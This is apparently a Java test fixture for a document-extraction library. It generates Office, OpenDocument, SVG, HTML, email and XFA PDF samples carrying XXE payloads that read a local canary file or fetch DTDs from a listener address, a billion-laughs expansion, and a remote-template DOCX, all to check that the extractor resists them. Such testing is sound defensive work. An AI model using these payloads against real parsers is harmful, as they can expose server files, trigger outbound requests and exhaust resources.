package org.paraphe.extraction;

import java.io.IOException;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** XML that asks for files and addresses of the machine, or that grows without end. */
final class HostileXml {

  static final String SHEET_HEAD =
      "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>";
  private static final String OFFICE =
      "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
  private static final String WORD =
      " xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"";

  private HostileXml() {}

  /**
   * @param address where a listener counts who calls
   * @param canary a file whose words must come out nowhere
   */
  static Map<String, byte[]> all(String address, String canary) {
    Map<String, byte[]> files = new LinkedHashMap<>();
    Map<String, String> types =
        Map.of(
            "fichier", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file://" + canary + "\">]>",
            "reseau", "<!DOCTYPE x [<!ENTITY e SYSTEM \"" + address + "/entite\">]>",
            "dtd", "<!DOCTYPE x SYSTEM \"" + address + "/x.dtd\">",
            "parametre",
                "<!DOCTYPE x [<!ENTITY % p SYSTEM \""
                    + address
                    + "/p.dtd\"> %p; <!ENTITY e \"a\">]>",
            "rires", laughs());
    types.forEach(
        (name, type) -> {
          String use = name.equals("dtd") ? "" : "&e;";
          files.put(name + ".docx", word(type, use));
          files.put(name + ".xlsx", workbook(type, use));
          files.put(name + ".odt", openDocument(type, use));
          files.put(name + ".svg", picture(type, use, address));
          files.put(name + ".xml", Samples.utf8(type + "<x>" + use + "</x>"));
          files.put(name + ".html", page(type, use, address, canary));
          files.put(name + ".eml", mail(type, use, address));
          files.put(name + ".pdf", form(type + "<x>" + use + "</x>"));
        });
    files.put("modele-distant.docx", remoteTemplate(address));
    return files;
  }

  private static String laughs() {
    StringBuilder type = new StringBuilder("<!DOCTYPE x [<!ENTITY l0 \"ha\">");
    for (int i = 1; i <= 30; i++) {
      type.append("<!ENTITY l").append(i).append(" \"").append(("&l" + (i - 1) + ";").repeat(10));
      type.append("\">");
    }
    return type.append("<!ENTITY e \"&l30;\">]>").toString();
  }

  static String types(String part) {
    boolean word = part.startsWith("word");
    return "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
        + "<Default Extension=\"xml\" ContentType=\"application/xml\"/><Default Extension=\"rels\""
        + " ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Override"
        + " PartName=\"/"
        + part
        + "\" ContentType=\"application/vnd.openxmlformats-officedocument."
        + (word ? "wordprocessingml.document" : "spreadsheetml.sheet")
        + ".main+xml\"/><Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"application/"
        + "vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/></Types>";
  }

  static String relation(String part) {
    return relations(
        "<Relationship Id=\"r1\" Type=\"" + OFFICE + "/officeDocument\" Target=\"" + part + "\"/>");
  }

  private static String relations(String content) {
    return "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
        + content
        + "</Relationships>";
  }

  private static byte[] word(String type, String use) {
    return Samples.zip(
        "[Content_Types].xml", types("word/document.xml"),
        "_rels/.rels", type + relation("word/document.xml"),
        "word/styles.xml", type + "<w:styles" + WORD + ">" + use + "</w:styles>",
        "docProps/core.xml", type + "<core><description>" + use + "</description></core>",
        "word/document.xml",
            type
                + "<w:document"
                + WORD
                + "><w:body><w:p><w:r><w:t>avant"
                + use
                + "</w:t></w:r></w:p></w:body></w:document>");
  }

  private static byte[] remoteTemplate(String address) {
    return Samples.zip(
        "[Content_Types].xml", types("word/document.xml"),
        "_rels/.rels", relation("word/document.xml"),
        "word/_rels/settings.xml.rels",
            relations(
                "<Relationship Id=\"r1\" TargetMode=\"External\" Type=\""
                    + OFFICE
                    + "/attachedTemplate\" Target=\""
                    + address
                    + "/modele.dotm\"/>"),
        "word/_rels/document.xml.rels",
            relations(
                "<Relationship Id=\"r2\" TargetMode=\"External\" Type=\""
                    + OFFICE
                    + "/image\" Target=\""
                    + address
                    + "/image.png\"/>"),
        "word/document.xml",
            "<w:document"
                + WORD
                + "><w:body><w:p><w:r><w:t>bonjour</w:t></w:r></w:p></w:body></w:document>");
  }

  static void workbookParts(ZipOutputStream zip) throws IOException {
    put(zip, "[Content_Types].xml", types("xl/workbook.xml"));
    put(zip, "_rels/.rels", relation("xl/workbook.xml"));
    put(
        zip,
        "xl/_rels/workbook.xml.rels",
        relations(
            "<Relationship Id=\"r1\" Type=\""
                + OFFICE
                + "/worksheet\" Target=\"worksheets/sheet1.xml\"/><Relationship Id=\"r2\" Type=\""
                + OFFICE
                + "/sharedStrings\" Target=\"sharedStrings.xml\"/>"));
    put(
        zip,
        "xl/workbook.xml",
        "<workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\""
            + OFFICE
            + "\"><sheets><sheet name=\"F\" sheetId=\"1\" r:id=\"r1\"/></sheets></workbook>");
  }

  private static void put(ZipOutputStream zip, String name, String text) throws IOException {
    zip.putNextEntry(new ZipEntry(name));
    zip.write(Samples.utf8(text));
    zip.closeEntry();
  }

  private static byte[] workbook(String type, String use) {
    return Samples.bytes(
        out -> {
          try (ZipOutputStream zip = new ZipOutputStream(out)) {
            workbookParts(zip);
            put(
                zip,
                "xl/worksheets/sheet1.xml",
                type
                    + SHEET_HEAD
                    + "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>"
                    + use
                    + "</t></is></c></row></sheetData></worksheet>");
          }
        });
  }

  private static byte[] openDocument(String type, String use) {
    return Samples.zip(
        "mimetype", "application/vnd.oasis.opendocument.text",
        "META-INF/manifest.xml", type + "<manifest>" + use + "</manifest>",
        "styles.xml", type + "<styles>" + use + "</styles>",
        "content.xml",
            type
                + "<office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:"
                + "office:1.0\" xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\">"
                + "<office:body><office:text><text:p>avant"
                + use
                + "</text:p></office:text></office:body></office:document-content>");
  }

  private static byte[] picture(String type, String use, String address) {
    return Samples.utf8(
        "<?xml version=\"1.0\"?>"
            + type
            + "<svg xmlns=\"http://www.w3.org/2000/svg\""
            + " xmlns:xlink=\"http://www.w3.org/1999/xlink\"><image xlink:href=\""
            + address
            + "/image\"/><text>"
            + use
            + "</text></svg>");
  }

  private static byte[] page(String type, String use, String address, String canary) {
    return Samples.utf8(
        type
            + "<html xmlns=\"http://www.w3.org/1999/xhtml\"><head><base href=\""
            + address
            + "\"/><link rel=\"stylesheet\" href=\"x.css\"/></head><body><p>avant "
            + use
            + "</p><img src=\"x.png\"/><iframe src=\"file://"
            + canary
            + "\"></iframe></body></html>");
  }

  private static byte[] mail(String type, String use, String address) {
    return Samples.utf8(
        "From: a@exemple.fr\nSubject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed;"
            + " boundary=xx\n\n--xx\nContent-Type: message/external-body; access-type=URL; URL=\""
            + address
            + "/corps\"\n\n--xx\nContent-Type: text/html\n\n"
            + type
            + "<p>"
            + use
            + "<img src=\""
            + address
            + "/i\"></p>\n--xx\nContent-Type: image/svg+xml; name=a.svg\n\n"
            + type
            + "<svg>"
            + use
            + "</svg>\n--xx--\n");
  }

  /** A PDF whose form is told in XML (XFA). */
  private static byte[] form(String xml) {
    return HostilePdfs.plain(
        "1 0 obj<</Type/Catalog/Pages 2 0 R/AcroForm<</XFA 4 0 R/Fields[]>>>>endobj\n"
            + "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
            + "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]>>endobj\n"
            + "4 0 obj<</Length "
            + xml.length()
            + ">>stream\n"
            + xml
            + "\nendstream endobj\n");
  }
}
